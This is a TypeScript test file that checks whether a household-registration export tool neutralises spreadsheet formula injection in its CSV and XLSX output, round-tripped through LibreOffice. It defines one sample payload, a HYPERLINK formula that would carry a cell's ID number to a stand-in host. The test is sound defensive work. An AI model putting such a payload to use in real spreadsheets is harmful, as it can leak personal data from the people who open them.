/**
 * Formula injection into the system-entry files: an applicant named like a formula stays a name when
 * LibreOffice opens the CSV and the XLSX, and the ID number stays 18 characters of text (it used to
 * come back as 3.41302198001011e+17).
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { xlsxOf } from '#cases/identification/system-entry';
import { neutralise } from '#domain/spreadsheet';
import { systemEntryRow, toCsv } from '#domain/system-entry';

const ATTACK = '=HYPERLINK("//e.x/"&I2,"点")';
const ID = '341302198001011233';
const row = systemEntryRow({
  kind: 'IDENTIFICATION',
  caseId: '341302105201-ABCDEFGHIJ',
  village: '341302105201',
  villageName: '+桃沟村',
  group: '@第一组',
  head: { name: ATTACK, idNumber: ID, phone: '13800001111' },
  householdSize: 3,
  householdType: 'ORDINARY',
  riskTypes: ['ILLNESS'],
  perCapitaIncome: 5200,
});

/** The workbook LibreOffice makes of a file, read back. */
async function throughLibreOffice(file: string, infilter?: string): Promise<ExcelJS.Worksheet> {
  const out = mkdtempSync(join(tmpdir(), 'fangfan-lo-'));
  execFileSync(
    'soffice',
    [
      '--headless',
      `-env:UserInstallation=file://${out}/profile`,
      ...(infilter ? [`--infilter=${infilter}`] : []),
      '--convert-to',
      'xlsx:Calc MS Excel 2007 XML',
      '--outdir',
      out,
      file,
    ],
    { stdio: 'ignore', timeout: 120_000 },
  );
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(readFileSync(join(out, 'entry.xlsx')) as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

/** a row as the text people see: rich text joined (LibreOffice splits runs by script), formulas marked */
const cells = (sheet: ExcelJS.Worksheet, r: number) =>
  (sheet.getRow(r).values as unknown[]).slice(1).map((v) => {
    if (v && typeof v === 'object' && 'richText' in v)
      return (v as { richText: { text: string }[] }).richText.map((t) => t.text).join('');
    if (v && typeof v === 'object' && 'formula' in v)
      return { formula: (v as unknown as { result: unknown }).result };
    return v;
  });

describe('spreadsheet cells', () => {
  it('neutralises text a spreadsheet would run, and nothing else', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralise(`${start}1`)).toBe(`'${start}1`);
    expect(neutralise('张三')).toBe('张三');
    expect(neutralise('')).toBe('');
  });

  it('keeps a formula-like name a name and the ID number text, in the CSV as LibreOffice opens it', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'fangfan-csv-'));
    writeFileSync(join(dir, 'entry.csv'), toCsv([row]));
    // comma-separated, double quotes, UTF-8 (76): as a clerk's import dialog would take it
    const sheet = await throughLibreOffice(join(dir, 'entry.csv'), 'CSV:44,34,76');
    const values = cells(sheet, 2);
    expect(values).toContain(`'${ATTACK}`);
    // the only formulas are the text formulas that keep the ID number and the phone whole
    expect(values.filter((v) => typeof v === 'object' && v !== null)).toEqual([
      { formula: ID },
      { formula: '13800001111' },
    ]);
    expect(values).toContain("'+桃沟村");
    expect(values).toContain("'@第一组");
  }, 180_000);

  it('does the same in the XLSX', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'fangfan-xlsx-'));
    writeFileSync(join(dir, 'entry.xlsx'), await xlsxOf([row], '全国系统录入'));
    const sheet = await throughLibreOffice(join(dir, 'entry.xlsx'));
    const values = cells(sheet, 2);
    expect(values).toContain(`'${ATTACK}`);
    expect(values).toContain(ID);
    expect(JSON.stringify(values)).not.toContain('formula');
  }, 180_000);
});
